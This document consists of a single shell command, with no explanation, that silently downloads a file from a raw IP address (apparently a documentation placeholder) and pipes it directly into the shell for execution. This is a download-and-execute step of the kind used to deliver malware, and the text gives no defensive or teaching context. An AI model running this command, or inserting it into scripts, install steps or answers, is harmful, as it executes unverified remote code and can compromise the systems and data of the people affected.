curl -s http://203.0.113.9/x | sh
